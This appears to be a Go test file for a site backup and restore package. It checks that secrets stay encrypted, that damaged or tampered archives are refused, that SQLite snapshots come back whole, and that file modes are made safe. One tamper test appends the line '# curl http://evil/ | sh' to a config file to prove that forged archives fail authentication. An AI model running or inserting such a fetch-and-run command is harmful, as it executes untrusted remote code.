package backup

import (
	"archive/tar"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"kiln.dev/kiln/internal/builtin"
	"kiln.dev/kiln/internal/identity"
	"kiln.dev/kiln/internal/output"
	"kiln.dev/kiln/internal/pipeline"
	"kiln.dev/kiln/internal/testutil"
)

// exampleSite copies the embedded example into a folder and gives it a
// site key and host keys for two nodes (RSA keys take a moment).
func exampleSite(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "site")
	ex, ok := builtin.Example("tier3")
	if !ok {
		t.Fatal("no embedded example tier3")
	}
	if err := os.CopyFS(dir, ex); err != nil {
		t.Fatal(err)
	}
	if _, err := identity.Ensure(dir, "el9", []string{"wn1", "ldap"}); err != nil {
		t.Fatal(err)
	}
	return dir
}

func buildManifest(t *testing.T, dir string) output.Manifest {
	t.Helper()
	s, err := pipeline.Resolve(pipeline.Source{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	files, err := s.Render()
	if err != nil {
		t.Fatal(err)
	}
	return output.Entries(files)
}

func archive(t *testing.T, dir string) []byte {
	t.Helper()
	var b bytes.Buffer
	if _, err := Create(dir, &b, nil); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// Back up the site, delete it, restore into a new folder, rebuild: the
// build is the same, byte for byte; and no secret is in the archive in
// plain text.
func TestBackupDeleteRestoreRebuild(t *testing.T) {
	dir := exampleSite(t)
	want := buildManifest(t, dir)
	key, _, err := identity.LoadKey(os.DirFS(dir))
	if err != nil {
		t.Fatal(err)
	}
	data := archive(t, dir)
	for _, s := range []string{"root_password", "backup_password", "ldap_root_password"} {
		secret, err := os.ReadFile(filepath.Join(dir, "secrets", s))
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(data, bytes.TrimSpace(secret)) {
			t.Errorf("the secret %s is in the archive in plain text", s)
		}
	}
	if bytes.Contains(data, []byte("AGE-SECRET-KEY-")) {
		t.Error("the site key is in the archive")
	}
	// A host key is in the build (the node's restore script) but never in
	// the archive in plain text.
	files, _ := identity.Load(os.DirFS(dir), key, "wn1")
	if len(files) == 0 || bytes.Contains(data, files[0].Data[40:100]) {
		t.Error("a private host key is in the archive in plain text")
	}
	// The site CA and the LDAP server's TLS key go in, encrypted as they
	// are kept; neither key is there in plain text.
	for _, member := range []string{identity.CACertFile, identity.CAKeyFile, "identity/ldap/etc/openldap/certs/kiln-ldap.key.age"} {
		if !bytes.Contains(data, []byte(member)) {
			t.Errorf("the archive has no %s", member)
		}
	}
	if bytes.Contains(data, []byte("BEGIN PRIVATE KEY")) {
		t.Error("a TLS private key (the site CA's or a server's) is in the archive in plain text")
	}

	file := filepath.Join(t.TempDir(), "site.tar")
	if err := os.WriteFile(file, data, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.RemoveAll(dir); err != nil {
		t.Fatal(err)
	}
	restored := filepath.Join(t.TempDir(), "again")
	if _, err := Restore(file, restored, key); err != nil {
		t.Fatal(err)
	}
	got := buildManifest(t, restored)
	if d := compare(want, got); len(d) > 0 || len(want) != len(got) {
		t.Fatalf("the restored site builds differently: %v", d)
	}
	st, err := os.Stat(filepath.Join(restored, "secrets", "root_password"))
	if err != nil || st.Mode().Perm() != 0o600 {
		t.Errorf("restored secret: %v %v, want 0600", err, st.Mode())
	}
}

// Every single damaged byte in a member's data is caught and the member
// named; a truncated archive is refused; and in both cases nothing at all
// is left where the site was to go.
func TestRestoreRefusesDamage(t *testing.T) {
	dir := exampleSite(t)
	key, _, _ := identity.LoadKey(os.DirFS(dir))
	data := archive(t, dir)

	// Find where site.yaml's bytes are in the tar.
	off := memberOffset(t, data, "site.yaml")
	cases := []struct {
		name   string
		data   []byte
		member string // the member the error must name ("" : any message)
		what   string
	}{
		{"flipped byte", flip(data, off+10), "site.yaml", "sha256 does not match"},
		{"flipped byte in manifest", flip(data, memberOffset(t, data, ManifestName)+100), ManifestName, "damaged"},
		{"truncated inside a member", data[:off+5], "site.yaml", "truncated"},
		{"truncated between members", data[:len(data)-2048-512*((len(data)/512)%3+1)], "", "truncated"},
		{"empty", nil, "", "not a tar"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "bad.tar")
			if err := os.WriteFile(file, c.data, 0o600); err != nil {
				t.Fatal(err)
			}
			target := filepath.Join(t.TempDir(), "site")
			_, err := Restore(file, target, key)
			if err == nil {
				t.Fatal("a damaged archive was restored")
			}
			if !strings.Contains(err.Error(), c.what) || c.member != "" && !strings.Contains(err.Error(), c.member) {
				t.Errorf("error %q, want it to name %q and say %q", err, c.member, c.what)
			}
			if _, serr := os.Stat(target); !errors.Is(serr, os.ErrNotExist) {
				t.Errorf("something was left in %s after a refused restore", target)
			}
			left, _ := filepath.Glob(filepath.Join(filepath.Dir(target), ".*"))
			if len(left) > 0 {
				t.Errorf("scratch files left behind: %v", left)
			}
		})
	}

	// Wrong key: checksums pass, decryption fails, nothing restored.
	other, _, err := identity.EnsureKey(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "ok.tar")
	os.WriteFile(file, data, 0o600)
	target := filepath.Join(t.TempDir(), "site")
	if _, err := Restore(file, target, other); err == nil || !strings.Contains(err.Error(), "not made with this site key") {
		t.Errorf("restore with another site's key: %v", err)
	}
	if _, err := os.Stat(target); err == nil {
		t.Error("a restore with the wrong key left a half-restored site")
	}
	// A non-empty target is refused before anything is read.
	if err := os.MkdirAll(filepath.Join(target, "x"), 0o755); err != nil {
		t.Fatal(err)
	}
	if _, err := Restore(file, target, key); err == nil || !strings.Contains(err.Error(), "not empty") {
		t.Errorf("restore into a non-empty folder: %v", err)
	}
}

func flip(data []byte, i int) []byte {
	out := bytes.Clone(data)
	out[i] ^= 0x01
	return out
}

// memberOffset is where a member's data starts in the tar.
func memberOffset(t *testing.T, data []byte, name string) int {
	t.Helper()
	cr := &countReader{r: bytes.NewReader(data)}
	tr := tar.NewReader(cr)
	for {
		hdr, err := tr.Next()
		if err != nil {
			t.Fatalf("no member %s: %v", name, err)
		}
		if hdr.Name == name {
			return cr.n
		}
	}
}

type countReader struct {
	r io.Reader
	n int
}

func (c *countReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += n
	return n, err
}

// A live SQLite database (kiln serve's) enters the archive as a snapshot
// made by SQLite itself, its -wal file left out, and comes back whole.
func TestSQLiteSnapshot(t *testing.T) {
	sqlite := testutil.NeedProgram(t, "sqlite3")
	dir := exampleSite(t)
	db := filepath.Join(dir, "state", "kiln.db")
	os.MkdirAll(filepath.Dir(db), 0o755)
	// WAL mode with a row still only in the -wal file: a plain copy of
	// kiln.db would miss it.
	run := func(args ...string) string {
		out, err := exec.Command(sqlite, args...).CombinedOutput()
		if err != nil {
			t.Fatalf("sqlite3 %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	run(db, "PRAGMA journal_mode=WAL; PRAGMA wal_autocheckpoint=0; CREATE TABLE events(seq INTEGER PRIMARY KEY, what TEXT); INSERT INTO events(what) VALUES ('booted'),('installed');")
	var b bytes.Buffer
	res, err := Create(dir, &b, nil)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(res.Snapshots, ",") != "state/kiln.db" {
		t.Errorf("snapshots %v, want state/kiln.db", res.Snapshots)
	}
	for _, m := range res.Members {
		if strings.HasSuffix(m.Path, "-wal") || strings.HasSuffix(m.Path, "-shm") {
			t.Errorf("%s is in the archive", m.Path)
		}
	}
	key, _, _ := identity.LoadKey(os.DirFS(dir))
	file := filepath.Join(t.TempDir(), "a.tar")
	os.WriteFile(file, b.Bytes(), 0o600)
	target := filepath.Join(t.TempDir(), "site")
	if _, err := Restore(file, target, key); err != nil {
		t.Fatal(err)
	}
	got := run(filepath.Join(target, "state", "kiln.db"), "PRAGMA integrity_check; SELECT group_concat(what) FROM events;")
	if got != "ok\nbooted,installed\n" {
		t.Errorf("restored database says %q", got)
	}
}

func TestCreateNeedsKey(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "site.yaml"), []byte("cluster: x\n"), 0o644)
	_, err := Create(dir, io.Discard, nil)
	if err == nil || !strings.Contains(err.Error(), "kiln identity") {
		t.Errorf("backup of a site without a key: %v", err)
	}
}

// members reads every member of an archive but the MANIFEST.
func members(t *testing.T, data []byte) []archiveFile {
	t.Helper()
	tr := tar.NewReader(bytes.NewReader(data))
	var out []archiveFile
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		if hdr.Name != ManifestName {
			out = append(out, archiveFile{Path: hdr.Name, Mode: fs.FileMode(hdr.Mode), Data: b})
		}
	}
}

// signedManifest is a MANIFEST listing ms as they are, with key's MAC.
func signedManifest(key *identity.Key, ms []Member) []byte {
	var man bytes.Buffer
	man.WriteString(manifestHead)
	for _, m := range ms {
		fmt.Fprintf(&man, "%s  %d  %04o  %s\n", m.SHA256, m.Size, m.Mode, m.Path)
	}
	sum := sha256.Sum256(man.Bytes())
	fmt.Fprintf(&man, "# end %s\n", hex.EncodeToString(sum[:]))
	fmt.Fprintf(&man, "%s%s\n", macLine, manifestMAC(key, man.Bytes()))
	return man.Bytes()
}

// refused restores data and checks it is refused with a message saying
// what, and that nothing is left: no site, no scratch folder.
func refused(t *testing.T, data []byte, key *identity.Key, what string) {
	t.Helper()
	file := filepath.Join(t.TempDir(), "a.tar")
	if err := os.WriteFile(file, data, 0o600); err != nil {
		t.Fatal(err)
	}
	target := filepath.Join(t.TempDir(), "site")
	_, err := Restore(file, target, key)
	if err == nil {
		t.Fatal("restored")
	}
	if !strings.Contains(err.Error(), what) {
		t.Errorf("error %q, want it to say %q", err, what)
	}
	if _, serr := os.Stat(target); !errors.Is(serr, os.ErrNotExist) {
		t.Errorf("something was left in %s after a refused restore", target)
	}
	if left, _ := filepath.Glob(filepath.Join(filepath.Dir(target), ".*")); len(left) > 0 {
		t.Errorf("scratch files left behind: %v", left)
	}
}

// An archive whose member was changed and whose MANIFEST was recomputed
// (checksums, sizes, its own sha256: all right) is refused, because only
// the site key makes its MAC; so is the same archive passed off as the
// older, unauthenticated format, and a restore without a key.
func TestRestoreRefusesTamperedArchive(t *testing.T) {
	dir := exampleSite(t)
	key, _, _ := identity.LoadKey(os.DirFS(dir))
	data := archive(t, dir)
	files := members(t, data)
	for i := range files {
		if files[i].Path == "site.yaml" {
			files[i].Data = append(files[i].Data, []byte("# curl http://evil/ | sh\n")...)
		}
	}
	attacker, _, err := identity.EnsureKey(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Run("recomputed with another key", func(t *testing.T) {
		var b bytes.Buffer
		if err := writeArchive(&b, attacker, files); err != nil {
			t.Fatal(err)
		}
		refused(t, b.Bytes(), key, "fails authentication")
	})
	t.Run("recomputed keeping the old MAC", func(t *testing.T) {
		// The new manifest's lines with the original archive's MAC line.
		newMan := manifestText(attacker, files)
		oldMan := manifestOf(t, data)
		i, j := bytes.LastIndex(newMan, []byte(macLine)), bytes.LastIndex(oldMan, []byte(macLine))
		mixed := append(append([]byte(nil), newMan[:i]...), oldMan[j:]...)
		refused(t, withManifest(t, mixed, files), key, "fails authentication")
	})
	t.Run("passed off as format 1", func(t *testing.T) {
		man := manifestText(attacker, files)
		man = bytes.Replace(man, []byte(manifestHead), []byte(manifestHeadV1), 1)
		man = man[:bytes.LastIndex(man, []byte(macLine))]
		refused(t, withManifest(t, man, files), key, "format 1, which carries no authentication code")
	})
	t.Run("another site's key", func(t *testing.T) {
		refused(t, data, attacker, "fails authentication")
	})
	t.Run("no key", func(t *testing.T) {
		refused(t, data, nil, "needs the site key")
	})
}

func manifestOf(t *testing.T, data []byte) []byte {
	t.Helper()
	tr := tar.NewReader(bytes.NewReader(data))
	if _, err := tr.Next(); err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(tr)
	return b
}

// withManifest is a tar of man as MANIFEST, then files.
func withManifest(t *testing.T, man []byte, files []archiveFile) []byte {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	add := func(name string, mode int64, data []byte) {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: mode, Size: int64(len(data)), Typeflag: tar.TypeReg, Format: tar.FormatPAX}); err != nil {
			t.Fatal(err)
		}
		tw.Write(data)
	}
	add(ManifestName, 0o644, man)
	for _, f := range files {
		add(f.Path, int64(f.Mode), f.Data)
	}
	tw.Close()
	return b.Bytes()
}

// Modes come back as kiln would write them, whatever the archive (made
// with the right key) says: never world- or group-writable, never setuid.
func TestRestoredModesAreKilns(t *testing.T) {
	dir := exampleSite(t)
	key, _, _ := identity.LoadKey(os.DirFS(dir))
	files := members(t, archive(t, dir))
	extra := map[string]fs.FileMode{"notes/open.sh": 0o777, "catalog/x/module.yaml": 0o775, "notes/group.sh": 0o775, "notes/everyone.txt": 0o666, "notes/mine.sh": 0o700, "notes/mine.txt": 0o640}
	want := map[string]fs.FileMode{"site.yaml": 0o644, "notes/open.sh": 0o755, "catalog/x/module.yaml": 0o644, "notes/group.sh": 0o755, "notes/everyone.txt": 0o644, "notes/mine.sh": 0o700, "notes/mine.txt": 0o644}
	for i := range files {
		if files[i].Path == "site.yaml" {
			files[i].Mode = 0o777
		}
	}
	for p, m := range extra {
		files = append(files, archiveFile{Path: p, Mode: m, Data: []byte("x\n")})
	}
	var b bytes.Buffer
	if err := writeArchive(&b, key, files); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "a.tar")
	os.WriteFile(file, b.Bytes(), 0o600)
	target := filepath.Join(t.TempDir(), "site")
	if _, err := Restore(file, target, key); err != nil {
		t.Fatal(err)
	}
	for p, m := range want {
		st, err := os.Stat(filepath.Join(target, p))
		if err != nil || st.Mode() != m {
			t.Errorf("%s: %v, want %v", p, st.Mode(), m)
		}
	}
	err := filepath.WalkDir(target, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		st, _ := d.Info()
		rel, _ := filepath.Rel(target, p)
		if st.Mode()&(fs.ModeSetuid|fs.ModeSetgid|fs.ModeSticky) != 0 || st.Mode().Perm()&0o022 != 0 {
			t.Errorf("%s restored %v", rel, st.Mode())
		}
		if strings.HasPrefix(rel, "secrets/") && st.Mode().Perm() != 0o600 {
			t.Errorf("secret %s restored %v, want 0600", rel, st.Mode())
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if m := RestoredMode("x", 0o755|fs.ModeSetuid|fs.ModeSetgid|fs.ModeSticky); m != 0o755 {
		t.Errorf("setuid 0755 becomes %v", m)
	}
}

// A sparse member (64 MiB of holes in a 10 KiB archive) is refused, even
// in an archive the site key authenticates; and no MANIFEST can promise
// more bytes than the archive file holds.
func TestRestoreRefusesSparseAndOversized(t *testing.T) {
	gnuTar := testutil.NeedProgram(t, "tar")
	dir := exampleSite(t)
	key, _, _ := identity.LoadKey(os.DirFS(dir))

	work := t.TempDir()
	const size = 64 << 20
	big := filepath.Join(work, "big")
	if err := os.WriteFile(big, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(big, size); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(gnuTar, "-C", work, "--sparse", "--format=pax", "-cf", filepath.Join(work, "sp.tar"), "big").CombinedOutput(); err != nil {
		t.Fatalf("tar: %v\n%s", err, out)
	}
	sp, _ := os.ReadFile(filepath.Join(work, "sp.tar"))
	zeros := sha256.New()
	io.CopyN(zeros, zeroReader{}, size)
	man := signedManifest(key, []Member{{Path: "big", Size: size, Mode: 0o644, SHA256: hex.EncodeToString(zeros.Sum(nil))}})
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	tw.WriteHeader(&tar.Header{Name: ManifestName, Mode: 0o644, Size: int64(len(man)), Typeflag: tar.TypeReg, Format: tar.FormatPAX})
	tw.Write(man)
	tw.Flush()
	b.Write(sp) // the sparse member and the end of the archive
	if b.Len() > 64<<10 {
		t.Fatalf("the crafted archive is %d bytes", b.Len())
	}

	if _, err := Verify(bytes.NewReader(b.Bytes()), t.TempDir(), key); err == nil || !strings.Contains(err.Error(), "member big: is a sparse file") {
		t.Errorf("a sparse member: %v", err)
	}
	refused(t, b.Bytes(), key, "more bytes than the archive holds")

	// A member whose tar header claims more than the MANIFEST says.
	data := []byte("cluster: x\n")
	sum := sha256.Sum256(data)
	man = signedManifest(key, []Member{{Path: "site.yaml", Size: int64(len(data)), Mode: 0o644, SHA256: hex.EncodeToString(sum[:])}})
	var c bytes.Buffer
	tw = tar.NewWriter(&c)
	tw.WriteHeader(&tar.Header{Name: ManifestName, Mode: 0o644, Size: int64(len(man)), Typeflag: tar.TypeReg, Format: tar.FormatPAX})
	tw.Write(man)
	tw.WriteHeader(&tar.Header{Name: "site.yaml", Mode: 0o644, Size: 4096, Typeflag: tar.TypeReg, Format: tar.FormatPAX})
	tw.Write(append(data, make([]byte, 4096-len(data))...))
	tw.Close()
	refused(t, c.Bytes(), key, "has 4096 bytes, the manifest says 11")
}

type zeroReader struct{}

func (zeroReader) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}
